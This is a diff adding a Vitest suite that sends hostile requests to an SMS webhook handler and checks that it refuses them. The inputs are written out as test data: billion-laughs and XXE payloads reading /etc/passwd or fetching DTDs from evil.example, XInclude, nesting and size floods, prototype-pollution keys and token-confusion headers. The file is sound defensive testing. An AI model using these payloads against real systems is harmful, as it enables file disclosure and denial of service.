@@ -1,0 +1,438 @@
+import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
+import { createWebhookHandler } from "../src/index.js";
+import { xmlParser } from "../src/xml.js";
+import {
+  endlessBody,
+  escapeXml,
+  statusPayload,
+  TOKEN,
+  toXml,
+  webhookRequest,
+} from "./helpers/requests.js";
+
+/** One hostile request, the status the handler must answer, and whether a callback may run. */
+interface HostileCase {
+  name: string;
+  request: () => Request;
+  status: 200 | 400 | 401 | 405 | 413 | 415;
+}
+
+const json =
+  (body: string, headers: Record<string, string> = {}) =>
+  () =>
+    webhookRequest(body, { headers });
+const xml =
+  (body: string, headers: Record<string, string> = {}) =>
+  () =>
+    webhookRequest(body, { contentType: "application/xml", headers });
+const bytes =
+  (body: Uint8Array<ArrayBuffer>, contentType = "application/json") =>
+  () =>
+    webhookRequest(body, { contentType });
+const valid = JSON.stringify(statusPayload());
+const validXml = toXml(statusPayload());
+/** A valid JSON webhook with `extra` spliced in before its closing brace. */
+const withJson = (extra: string) => `${valid.slice(0, -1)},${extra}}`;
+/** A valid XML webhook with `extra` spliced in before its closing root tag. */
+const withXml = (extra: string) => validXml.replace("</Webhook>", `${extra}</Webhook>`);
+const utf8 = (text: string) => new TextEncoder().encode(text);
+
+const laughs = [
+  '<?xml version="1.0"?>',
+  "<!DOCTYPE lolz [",
+  ' <!ENTITY lol "lol">',
+  ...Array.from(
+    { length: 8 },
+    (_, i) => ` <!ENTITY lol${i + 2} "${`&lol${i || ""};`.repeat(10)}">`,
+  ),
+  "]>",
+  `<Webhook><Type>SMS</Type><APIKey>${TOKEN}</APIKey><Message>&lol9;</Message></Webhook>`,
+].join("\n");
+
+const tenMegabytes = new Uint8Array(10 * 1024 * 1024).fill(0x20);
+
+const cases: HostileCase[] = [
+  // Entity expansion and external entities: refused before any parser sees them.
+  { name: "billion laughs", request: xml(laughs), status: 400 },
+  {
+    name: "quadratic blowup",
+    request: xml(
+      `<!DOCTYPE w [<!ENTITY a "${"a".repeat(50_000)}">]><Webhook><M>${"&a;".repeat(50)}</M></Webhook>`,
+    ),
+    status: 400,
+  },
+  {
+    name: "external entity (SYSTEM)",
+    request: xml(
+      `<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${withXml("<M>&xxe;</M>")}`,
+    ),
+    status: 400,
+  },
+  {
+    name: "external DTD (PUBLIC)",
+    request: xml(
+      `<!DOCTYPE Webhook PUBLIC "-//X//EN" "http://evil.example/x.dtd">${validXml.slice(38)}`,
+    ),
+    status: 400,
+  },
+  {
+    name: "parameter entities",
+    request: xml(
+      `<!DOCTYPE w [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>${validXml.slice(38)}`,
+    ),
+    status: 400,
+  },
+  { name: "lower-case doctype", request: xml(`<!doctype w>${validXml.slice(38)}`), status: 400 },
+  { name: "ENTITY without DOCTYPE", request: xml(withXml('<!ENTITY x "y">')), status: 400 },
+  { name: "undeclared entity", request: xml(withXml("<M>&xxe;</M>")), status: 400 },
+  { name: "HTML entity", request: xml(withXml("<M>&nbsp;</M>")), status: 400 },
+  {
+    name: "XInclude",
+    request: xml(
+      withXml(
+        '<M><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></M>',
+      ),
+    ),
+    status: 400,
+  },
+  // Depth and breadth.
+  { name: "XML nested 3 deep", request: xml(withXml("<M><b>x</b></M>")), status: 400 },
+  {
+    name: "XML nested 500 deep",
+    request: xml(withXml(`${"<a>".repeat(500)}${"</a>".repeat(500)}`)),
+    status: 400,
+  },
+  {
+    name: "XML nested 30,000 deep",
+    request: xml(`${"<a>".repeat(30_000)}${"</a>".repeat(30_000)}`),
+    status: 400,
+  },
+  { name: "XML with 30,000 fields", request: xml(withXml("<A>1</A>".repeat(30_000))), status: 400 },
+  {
+    name: "XML processing-instruction flood",
+    request: xml(`${"<?x?>".repeat(50_000)}${validXml.slice(38)}`),
+    status: 400,
+  },
+  {
+    name: "XML attribute flood",
+    request: xml(
+      validXml.replace(
+        "<Webhook>",
+        `<Webhook ${Array.from({ length: 20_000 }, (_, i) => `a${i}="1"`).join(" ")}>`,
+      ),
+    ),
+    status: 400,
+  },
+  {
+    name: "JSON nested 100,000 deep in a field",
+    request: json(withJson(`"X":${"[".repeat(100_000)}${"]".repeat(100_000)}`)),
+    status: 400,
+  },
+  {
+    name: "JSON nested 100,000 deep at the root",
+    request: json(`${"[".repeat(100_000)}${"]".repeat(100_000)}`),
+    status: 400,
+  },
+  {
+    name: "JSON with 10,000 unknown fields",
+    request: json(withJson(Array.from({ length: 10_000 }, (_, i) => `"f${i}":"${i}"`).join(","))),
+    status: 200,
+  },
+  // Size.
+  {
+    name: "10 MB body with Content-Length",
+    request: () =>
+      webhookRequest(tenMegabytes, { headers: { "content-length": String(tenMegabytes.length) } }),
+    status: 413,
+  },
+  { name: "10 MB body, length not declared", request: bytes(tenMegabytes), status: 413 },
+  {
+    name: "endless stream",
+    request: () => webhookRequest(endlessBody(64 * 1024, 512 * 1024).stream),
+    status: 413,
+  },
+  {
+    name: "one byte over 256 KiB",
+    request: bytes(utf8(withJson(`"Pad":"${"x".repeat(256 * 1024 - valid.length - 8)}"`))),
+    status: 413,
+  },
+  {
+    name: "200 KB message",
+    request: json(withJson(`"Message":"${"x".repeat(200_000)}"`)),
+    status: 200,
+  },
+  {
+    name: "200 KB XML message",
+    request: xml(withXml(`<M>${"x".repeat(200_000)}</M>`)),
+    status: 200,
+  },
+  // Malformed and truncated.
+  { name: "truncated JSON", request: json(valid.slice(0, valid.length / 2)), status: 400 },
+  { name: "truncated XML", request: xml(validXml.slice(0, validXml.length / 2)), status: 400 },
+  { name: "empty body", request: json(""), status: 400 },
+  { name: "whitespace body", request: json(" \r\n\t"), status: 400 },
+  { name: "JSON with a trailing comma", request: json(`${valid.slice(0, -1)},}`), status: 400 },
+  { name: "JSON with comments", request: json(`/* c */${valid}`), status: 400 },
+  { name: "two JSON documents", request: json(`${valid}${valid}`), status: 400 },
+  { name: "two XML roots", request: xml(`${validXml}<Webhook/>`), status: 400 },
+  { name: "mismatched XML tags", request: xml(withXml("<A>x</B>")), status: 400 },
+  // Encodings.
+  {
+    name: "invalid UTF-8",
+    request: bytes(new Uint8Array([...utf8(valid.slice(0, -2)), 0xc3, 0x28, 0x22, 0x7d])),
+    status: 400,
+  },
+  {
+    name: "overlong UTF-8",
+    request: bytes(
+      new Uint8Array([...utf8(valid.slice(0, 20)), 0xc0, 0xaf, ...utf8(valid.slice(20))]),
+    ),
+    status: 400,
+  },
+  {
+    name: "UTF-8 surrogate",
+    request: bytes(
+      new Uint8Array([...utf8(valid.slice(0, 20)), 0xed, 0xa0, 0x80, ...utf8(valid.slice(20))]),
+    ),
+    status: 400,
+  },
+  {
+    name: "UTF-16 with BOM",
+    request: bytes(
+      new Uint8Array([0xff, 0xfe, ...[...valid].flatMap((c) => [c.charCodeAt(0), 0])]),
+    ),
+    status: 400,
+  },
+  {
+    name: "UTF-8 BOM then JSON",
+    request: bytes(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(valid)])),
+    status: 200,
+  },
+  {
+    name: "UTF-8 BOM then XML",
+    request: bytes(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(validXml)]), "text/xml"),
+    status: 200,
+  },
+  {
+    name: "two BOMs",
+    request: bytes(new Uint8Array([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf, ...utf8(valid)])),
+    status: 400,
+  },
+  {
+    name: "NUL and lone surrogate escapes in a string",
+    request: json(withJson('"Message":"\\u0000\\ud800"')),
+    status: 200,
+  },
+  { name: "XML reference to NUL", request: xml(withXml("<M>&#0;</M>")), status: 400 },
+  { name: "XML reference past Unicode", request: xml(withXml("<M>&#x110000;</M>")), status: 400 },
+  // Prototype pollution.
+  { name: "__proto__ key", request: json(withJson('"__proto__":{"polluted":"yes"}')), status: 400 },
+  {
+    name: "__proto__ key, string value",
+    request: json(withJson('"__proto__":"polluted"')),
+    status: 200,
+  },
+  {
+    name: "constructor.prototype key",
+    request: json(withJson('"constructor":{"prototype":{"polluted":"yes"}}')),
+    status: 400,
+  },
+  {
+    name: "prototype key, string value",
+    request: json(withJson('"prototype":"polluted"')),
+    status: 200,
+  },
+  {
+    name: "__proto__ element",
+    request: xml(withXml("<__proto__>polluted</__proto__>")),
+    status: 200,
+  },
+  {
+    name: "constructor element",
+    request: xml(withXml("<constructor><prototype>x</prototype></constructor>")),
+    status: 400,
+  },
+  // Wrong shapes and types.
+  { name: "array at the root", request: json(`[${valid}]`), status: 400 },
+  { name: "string at the root", request: json('"SMS"'), status: 400 },
+  { name: "number at the root", request: json("42"), status: 400 },
+  { name: "huge number", request: json(withJson('"Price":1e999')), status: 400 },
+  {
+    name: "integer past 2^53",
+    request: json(withJson('"ReceivedID":123456789012345678901234567890')),
+    status: 400,
+  },
+  { name: "object in a field", request: json(withJson('"Message":{"text":"hi"}')), status: 400 },
+  {
+    name: "Type as an array",
+    request: json(JSON.stringify(statusPayload({ Type: ["SMS"] }))),
+    status: 400,
+  },
+  {
+    name: "no Type",
+    request: json(JSON.stringify(statusPayload({ Type: undefined }))),
+    status: 400,
+  },
+  {
+    name: "unknown Type",
+    request: json(JSON.stringify(statusPayload({ Type: "Email" }))),
+    status: 400,
+  },
+  {
+    name: 'Type "constructor"',
+    request: json(JSON.stringify(statusPayload({ Type: "constructor" }))),
+    status: 400,
+  },
+  {
+    name: 'Type "__proto__"',
+    request: json(JSON.stringify(statusPayload({ Type: "__proto__" }))),
+    status: 400,
+  },
+  {
+    name: 'Type "hasOwnProperty"',
+    request: json(JSON.stringify(statusPayload({ Type: "hasOwnProperty" }))),
+    status: 400,
+  },
+  { name: "repeated XML Type", request: xml(withXml("<Type>SMSReply</Type>")), status: 400 },
+  {
+    name: "repeated JSON Type, last one unknown",
+    request: json(withJson('"Type":"Evil"')),
+    status: 400,
+  },
+  // CDATA tricks.
+  {
+    name: "DOCTYPE inside CDATA",
+    request: xml(withXml("<M><![CDATA[<!DOCTYPE x>]]></M>")),
+    status: 400,
+  },
+  {
+    name: "markup smuggled in CDATA",
+    request: xml(withXml("<M><![CDATA[</M><Type>SMSReply</Type>]]></M>")),
+    status: 200,
+  },
+  {
+    name: "CDATA split around ]]>",
+    request: xml(withXml("<M><![CDATA[]]]]><![CDATA[>]]></M>")),
+    status: 200,
+  },
+  { name: "unclosed CDATA", request: xml(withXml("<M><![CDATA[x</M>")), status: 400 },
+  { name: "CDATA flood, unclosed", request: xml(withXml("<![CDATA[".repeat(20_000))), status: 400 },
+  // Tokens.
+  {
+    name: "wrong token in the header",
+    request: json(valid, { authorization: "Basic wrong" }),
+    status: 401,
+  },
+  {
+    name: "wrong token in the body",
+    request: json(JSON.stringify(statusPayload({ APIKey: "wrong" }))),
+    status: 401,
+  },
+  {
+    name: "no token",
+    request: json(JSON.stringify(statusPayload({ APIKey: undefined }))),
+    status: 401,
+  },
+  {
+    name: "token in X-Sender",
+    request: json(JSON.stringify(statusPayload({ APIKey: undefined })), { "x-sender": TOKEN }),
+    status: 401,
+  },
+  {
+    name: "token in an unknown field",
+    request: json(JSON.stringify(statusPayload({ APIKey: undefined, Token: TOKEN }))),
+    status: 401,
+  },
+  {
+    name: "token in a nested field",
+    request: json(withJson(`"Auth":{"APIKey":"${TOKEN}"}`).replace(`"APIKey":"${TOKEN}",`, "")),
+    status: 400,
+  },
+  {
+    name: "token as base64 user:password",
+    request: json(valid, { authorization: `Basic ${btoa(`bestsms:${TOKEN}`)}` }),
+    status: 401,
+  },
+  {
+    name: "100 KB Authorization header",
+    request: json(valid, { authorization: "x".repeat(100_000) }),
+    status: 401,
+  },
+  {
+    name: "right body token, wrong header token",
+    request: json(valid, { authorization: `Bearer ${TOKEN}x` }),
+    status: 401,
+  },
+  {
+    name: "escaped token",
+    request: json(JSON.stringify(statusPayload({ APIKey: escapeXml(`${TOKEN}&`) }))),
+    status: 401,
+  },
+  // Method and content type.
+  { name: "GET", request: () => webhookRequest(null, { method: "GET" }), status: 405 },
+  {
+    name: "text/plain",
+    request: () => webhookRequest(valid, { contentType: "text/plain" }),
+    status: 415,
+  },
+  {
+    name: "form encoding",
+    request: () => webhookRequest(valid, { contentType: "application/x-www-form-urlencoded" }),
+    status: 415,
+  },
+  {
+    name: "JSON declared as Latin-1",
+    request: () => webhookRequest(valid, { contentType: "application/json; charset=iso-8859-1" }),
+    status: 415,
+  },
+];
+
+describe("hostile inputs through the handler", () => {
+  const callback = vi.fn();
+  const handler = createWebhookHandler({
+    token: TOKEN,
+    xml: xmlParser,
+    onStatus: callback,
+    onReceived: callback,
+  });
+  const prototypeBefore = Object.getOwnPropertyNames(Object.prototype).map((name) => [
+    name,
+    Object.getOwnPropertyDescriptor(Object.prototype, name),
+  ]);
+
+  beforeAll(async () => {
+    // One warm-up request, as a running receiver has had: timings below are of steady state.
+    await handler(webhookRequest(validXml, { contentType: "text/xml" }));
+    await handler(webhookRequest(valid));
+  });
+
+  afterAll(() => {
+    const prototypeAfter = Object.getOwnPropertyNames(Object.prototype).map((name) => [
+      name,
+      Object.getOwnPropertyDescriptor(Object.prototype, name),
+    ]);
+    expect(prototypeAfter).toEqual(prototypeBefore);
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
+  });
+
+  test("the corpus is big enough", () => {
+    expect(cases.length).toBeGreaterThanOrEqual(40);
+    expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
+  });
+
+  test.each(cases.map((c) => [c.name, c] as const))("%s", async (_name, { request, status }) => {
+    callback.mockClear();
+    const built = request();
+    const started = performance.now();
+    const response = await handler(built);
+    const elapsed = performance.now() - started;
+    expect(response.status).toBe(status);
+    expect(callback).toHaveBeenCalledTimes(status === 200 ? 1 : 0);
+    const text = await response.text();
+    expect(text.length).toBeLessThan(60);
+    expect(text).not.toContain(TOKEN);
+    expect(elapsed).toBeLessThan(50);
+    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+  });
+});
